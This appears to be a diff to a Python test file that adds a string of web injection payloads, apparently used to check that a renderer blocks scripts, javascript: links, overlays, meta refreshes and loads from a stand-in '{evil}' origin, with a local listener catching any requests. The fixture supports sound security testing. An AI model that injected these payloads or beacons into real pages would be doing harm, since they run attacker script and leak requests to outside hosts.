@@ -78,3 +78,27 @@ class Listener:
         self._server.shutdown()
         self._server.server_close()
         self._thread.join(5)
+
+
+# An answer that tries everything; {evil} is the other origin.
+HOSTILE = """
+<script>fetch('{evil}/script'); alert(1)</script>
+<img src=x onerror="alert(2); fetch('{evil}/onerror')">
+<img src="{evil}/img.png">
+
+![remote]({evil}/markdown.png) [md](javascript:alert(6))
+
+<iframe src="{evil}/frame"></iframe> <iframe srcdoc="<script>alert(3)</script>"></iframe>
+<svg onload="alert(4)"><image href="{evil}/svg.png"/></svg>
+<style>body {{ display: none; background: url({evil}/css.png) }} @import url({evil}/import.css);</style>
+<link rel="stylesheet" href="{evil}/link.css">
+<form action="{evil}/form"><button>x</button></form>
+<video src="{evil}/video.mp4" autoplay></video> <audio src="{evil}/audio.mp3" autoplay></audio>
+<p style="background: url({evil}/style.png)">styled</p>
+<a href="javascript:alert(5)" id="bait">bait</a>
+<div style="position: fixed; inset: 0; z-index: 9999; background: white">over everything</div>
+<meta http-equiv="refresh" content="0;url={evil}/refresh">
+<object data="{evil}/object"></object><embed src="{evil}/embed">
+
+the end
+"""
